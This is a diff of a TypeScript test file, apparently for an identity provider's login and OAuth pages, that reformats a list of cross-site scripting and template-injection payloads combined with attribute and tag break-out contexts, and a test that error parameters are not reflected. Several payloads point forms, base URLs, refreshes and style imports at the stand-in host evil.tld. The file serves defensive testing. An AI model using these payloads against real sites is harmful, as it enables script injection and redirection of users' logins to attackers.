@@ -9,17 +9,41 @@ import type { TestProvider } from '../../support/provider.ts'
 
 /** What would run, or break out, in text, in a quoted attribute, in an unquoted one, in a URL and in a script. */
 const contexts: readonly ((core: string) => string)[] = [
-  (core) => core, (core) => `"${core}`, (core) => `'${core}`, (core) => `">${core}`, (core) => `'>${core}`, (core) => `</title>${core}`,
-  (core) => `-->${core}`, (core) => `]]>${core}`,
+  (core) => core,
+  (core) => `"${core}`,
+  (core) => `'${core}`,
+  (core) => `">${core}`,
+  (core) => `'>${core}`,
+  (core) => `</title>${core}`,
+  (core) => `-->${core}`,
+  (core) => `]]>${core}`,
 ]
 const cores = [
-  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', ' onfocus=alert(1) autofocus x="', 'javascript:alert(1)',
-  '</script><script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">', '<a href=javascript:alert(1)>x</a>',
-  '<base href=//evil.tld>', '<form action=//evil.tld>', '<meta http-equiv=refresh content=0;url=//evil.tld>',
-  '<style>@import "//evil.tld"</style>', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<scr<script>ipt>alert(1)', '<ScRiPt>alert(1)</sCrIpT>', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '\u202e<b>x</b>', '<b>bold words of an attacker</b>',
-  '`-alert(1)-`', '\\u003cscript\\u003e',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  ' onfocus=alert(1) autofocus x="',
+  'javascript:alert(1)',
+  '</script><script>alert(1)</script>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<a href=javascript:alert(1)>x</a>',
+  '<base href=//evil.tld>',
+  '<form action=//evil.tld>',
+  '<meta http-equiv=refresh content=0;url=//evil.tld>',
+  '<style>@import "//evil.tld"</style>',
+  '{{7*7}}',
+  '${7*7}',
+  '<%= 7*7 %>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<scr<script>ipt>alert(1)',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '\u202e<b>x</b>',
+  '<b>bold words of an attacker</b>',
+  '`-alert(1)-`',
+  '\\u003cscript\\u003e',
 ]
 const payloads = contexts.flatMap((context) => cores.map(context))
 
@@ -69,7 +93,13 @@ describe('pages', () => {
   test('HO-12 error parameters on our own pages are not shown', async () => {
     const userAgent = provider.newUserAgent()
     const sentence = 'Call +1 555 0100'
-    const query = new URLSearchParams({ error: 'access_denied', error_description: sentence, message: sentence, ui: sentence, request: 'x' })
+    const query = new URLSearchParams({
+      error: 'access_denied',
+      error_description: sentence,
+      message: sentence,
+      ui: sentence,
+      request: 'x',
+    })
     for (const path of ['/ui/login', '/ui/login/accounts', '/ui/login/other-user', '/oauth/v2/authorize/resume', '/oauth/v2/authorize']) {
       const page = await userAgent.get(`${provider.issuer}${path}?${query}`)
       assert.equal(page.status, 400, path)
